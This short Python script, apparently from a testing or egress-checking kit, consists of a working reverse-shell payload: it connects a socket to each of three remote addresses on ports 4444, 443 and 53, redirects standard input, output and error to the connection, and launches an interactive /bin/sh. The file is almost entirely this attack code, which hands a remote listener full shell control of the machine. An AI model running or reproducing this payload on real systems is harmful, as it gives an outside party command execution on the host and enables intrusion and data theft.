# The everyday payload: a shell whose input and output is a connection to whoever waits for it.
import os
import socket

from kit import attempt, finish


def shell(address):
    with socket.socket() as line:
        line.settimeout(0.5)
        line.connect(address)
        for descriptor in (0, 1, 2):
            os.dup2(line.fileno(), descriptor)
        return os.execv("/bin/sh", ["sh", "-i"])


for address in (("203.0.113.5", 4444), ("198.51.100.7", 443), ("192.0.2.1", 53)):
    attempt(f"shell for {address[0]}", shell, address)
finish()
